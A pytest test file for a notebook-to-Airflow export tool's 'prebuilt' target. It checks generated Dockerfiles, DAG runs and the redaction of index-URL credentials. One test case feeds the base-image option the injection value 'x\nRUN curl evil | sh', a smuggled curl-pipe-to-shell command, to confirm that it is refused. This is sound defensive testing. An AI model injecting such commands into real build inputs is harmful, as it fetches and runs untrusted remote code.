"""``isocell export --target prebuilt`` (issue #16): the environments built into the Airflow
image, the tasks ``@task.external_python`` on them.

No container runtime runs here (the docker CLI has no daemon), so the Dockerfile's commands are
run outside a container, in a clean folder standing for the image's ``/opt/isocell``, and the
DAG then runs under ``airflow dags test`` against the environments they made, with the
``ASTRO_PYENV_*`` variables the Dockerfile sets.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from isocell.dag import export_notebook
from isocell.errors import ExportError
from tests.conftest import needs_py39
from tests.test_export import NOTEBOOKS, notebook, tasks_of

HOST = sys.executable
SIX = f"--python {HOST} --req six==1.16.0"


@pytest.mark.slow
def test_one_environment_per_distinct_environment_named_after_its_env(isocell_home, tmp_path):
    from isocell.envs import EnvRequest, EnvStore, create

    request = EnvRequest(python=HOST, requirements=("six==1.16.0",))
    create("tiny", request, store=EnvStore(isocell_home))
    path = notebook(
        tmp_path,
        f"%%isolated {SIX}\nimport six\nfirst = six.__version__",
        f"%%isolated {SIX}\nsecond = first",
        "%%isolated --env tiny\nthird = second",
        f"%%isolated --python {HOST} --req six==1.15.0\nfourth = third",
    )
    result = export_notebook(path, tmp_path / "out", target="prebuilt")
    folder = result.dag_file.parent
    text = result.text
    assert "@task.virtualenv(" not in text and text.count("@task.external_python(") == 4
    # the three cells on six 1.16.0 share one environment, named after the --env cell
    flat = "".join(text.split())
    tiny = 'os.environ.get("ASTRO_PYENV_tiny","/opt/isocell/envs/tiny/bin/python")'
    assert flat.count(tiny) == 3
    assert flat.count('os.environ.get("ASTRO_PYENV_fourth"') == 1
    names = sorted(p.name for p in (folder / "requirements").iterdir())
    assert names == ["fourth.txt", "tiny.txt"]
    assert "six==1.16.0" in (folder / "requirements" / "tiny.txt").read_text().split()
    docker = (folder / "Dockerfile").read_text()
    assert docker.count("\nFROM apache/airflow:latest\n") == 1
    assert "ENV ASTRO_PYENV_tiny=/opt/isocell/envs/tiny/bin/python" in docker
    minor = "{}.{}".format(*sys.version_info[:2])
    assert f"uv venv --python {minor} /opt/isocell/envs/tiny" in docker
    astro = (folder / "Dockerfile.astro").read_text().splitlines()
    assert astro[0] == "# syntax=quay.io/astronomer/airflow-extensions:v1"
    assert f"PYENV {minor} tiny requirements/tiny.txt" in astro
    assert not (folder / "Dockerfile.isocell").exists()
    assert set(tasks_of(text)) == {"first", "second", "third", "fourth"}


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"target": "lambda"}, "--target takes virtualenv or prebuilt or kubernetes"),
        ({"target": "prebuilt", "base_image": "x\nRUN curl evil | sh"}, "not an image"),
        ({"base_image": "apache/airflow:3.1.0"}, "applies to --target prebuilt only"),
    ],
)
def test_bad_targets_and_images_are_refused_before_anything_is_written(
    isocell_home, tmp_path, kwargs, message
):
    path = notebook(tmp_path, "x = 1")
    with pytest.raises(ExportError, match=message):
        export_notebook(path, tmp_path / "out", **kwargs)
    assert not (tmp_path / "out").exists()


def test_per_run_requirements_cannot_be_prebuilt(isocell_home, tmp_path):
    path = notebook(
        tmp_path,
        "version = '1.16.0'",
        f"%%isolated --python {HOST} --req six=={{version}}\nx = 1",
    )
    with pytest.raises(ExportError, match="rendered per run") as caught:
        export_notebook(path, tmp_path / "out", target="prebuilt")
    assert caught.value.cell == 1


def test_the_command_takes_the_target_and_the_base_image(isocell_home, tmp_path):
    path = notebook(tmp_path, "x = 1")
    done = subprocess.run(
        [sys.executable, "-m", "isocell.cli", "export", str(path), "-o", str(tmp_path / "o"),
         "--target", "prebuilt", "--base-image", "registry.example.com/team/airflow:1"],
        capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "FROM registry.example.com/team/airflow:1" in (tmp_path / "o" / "Dockerfile").read_text()


def run_dockerfile(
    folder: Path,
    root: Path,
    dockerfile: str = "Dockerfile",
    paths: dict[str, str] | None = None,
) -> dict[str, str]:
    """Run the commands of ``folder``'s ``dockerfile`` outside a container, ``/opt/isocell``
    being ``root`` (and each of ``paths`` its value, such as a base image's interpreter): its
    COPY of a file or folder from the build context and its RUN lines, in order; returns the
    variables its ENV lines set (``$PATH`` in them is the base image's, ``/usr/local/bin`` and
    the system's folders). (``COPY --from`` brings uv, which is on PATH here; ``USER`` has no
    meaning outside a container.)"""
    from uv import find_uv_bin

    text = (folder / dockerfile).read_text().replace("\\\n", " ")
    variables: dict[str, str] = {}
    path = os.pathsep.join([str(Path(find_uv_bin()).parent), os.environ["PATH"]])
    env = {**os.environ, "PATH": path, "UV_PYTHON_DOWNLOADS": "never"}
    mapping = {"/opt/isocell": str(root), **(paths or {})}
    for line in text.splitlines():
        for old, new in mapping.items():
            line = line.replace(old, new)
        word, _, rest = line.partition(" ")
        if word == "COPY" and not rest.startswith("--from"):
            source, target = shlex.split(rest)
            Path(target).parent.mkdir(parents=True, exist_ok=True)
            if (folder / source).is_dir():
                shutil.copytree(folder / source, target)
            else:
                shutil.copyfile(folder / source, target)
        elif word == "RUN":
            subprocess.run(
                ["bash", "-c", rest], cwd=folder, env={**env, **variables}, check=True,
                timeout=900,
            )  # fmt: skip
        elif word == "ENV":
            for assignment in shlex.split(rest):
                name, _, value = assignment.partition("=")
                variables[name] = value.replace("$PATH", BASE_PATH)
    return variables


#: The PATH of the Python and Airflow images.
BASE_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"


@pytest.mark.slow
@pytest.mark.airflow
@needs_py39
def test_the_prebuilt_dag_runs_on_the_environments_its_dockerfile_makes(isocell_home, tmp_path):
    from tests import airflow_harness
    from tests.test_airflow_export import etl_demo_results

    if airflow_harness.airflow_venv(3) is None:
        pytest.skip(f"Airflow 3 could not be installed: {airflow_harness.build_failure(3)}")
    notebook_results = etl_demo_results(tmp_path)
    result = export_notebook(
        NOTEBOOKS / "etl_to_airflow.ipynb",
        tmp_path / "dags",
        data_dir=str(tmp_path / "data"),
        target="prebuilt",
    )
    folder = result.dag_file.parent
    # the Pythons the environments need are found as uv finds them in an image: on PATH
    pythons = [str(path.parent) for path in airflow_harness.pyenv_pythons().values()]
    os.environ["PATH"] = os.pathsep.join([*pythons, os.environ["PATH"]])
    made = run_dockerfile(folder, tmp_path / "opt-isocell")
    variables = {name: value for name, value in made.items() if name.startswith("ASTRO_PYENV_")}
    assert set(made) - set(variables) == {"UV_PYTHON_INSTALL_DIR"}
    assert variables and all(re.fullmatch(r"ASTRO_PYENV_\w+", name) for name in variables)
    for python in variables.values():
        assert Path(python).exists(), python
    dag_results = tmp_path / "airflow.json"
    outcome = airflow_harness.dags_test(
        folder, result.dag_id, env={"ISOCELL_RESULTS": str(dag_results), **variables}
    )
    assert outcome.returncode == 0, outcome.output[-5000:]
    print(f"prebuilt: airflow dags test {outcome.seconds:.1f} s, states {outcome.task_states}")
    assert json.loads(dag_results.read_text()) == json.loads(notebook_results.read_text())
    # pandas 1.4.4 (the notebook's legacy_version) is nowhere but in a prebuilt environment
    assert "@task.virtualenv(" not in result.text


SECRET = "s3cret-token"
INDEX = f"https://user:{SECRET}@pypi.org/simple"


def _written(folder: Path) -> str:
    return "\n".join(p.read_text(errors="replace") for p in folder.rglob("*") if p.is_file())


def test_an_index_urls_credentials_are_written_nowhere(isocell_home, tmp_path):
    # a per-run requirement: the export builds nothing, so no index is reached
    path = notebook(
        tmp_path,
        "version = '1.16.0'",
        f"%%isolated --python {HOST} --req six=={{version}} --index-url {INDEX}\nx = 1",
    )
    result = export_notebook(path, tmp_path / "out")
    written = _written(result.dag_file.parent)
    assert SECRET not in written
    assert "https://pypi.org/simple" in written and "https://***@pypi.org/simple" in written


@pytest.mark.slow
@pytest.mark.network
def test_the_prebuilt_dockerfile_holds_no_credentials(isocell_home, tmp_path):
    path = notebook(
        tmp_path, f"%%isolated {SIX} --index-url {INDEX}\nimport six\nv = six.__version__"
    )
    result = export_notebook(path, tmp_path / "out", target="prebuilt")
    folder = result.dag_file.parent
    assert SECRET not in _written(folder)
    assert "--index-url https://pypi.org/simple" in (folder / "Dockerfile").read_text()
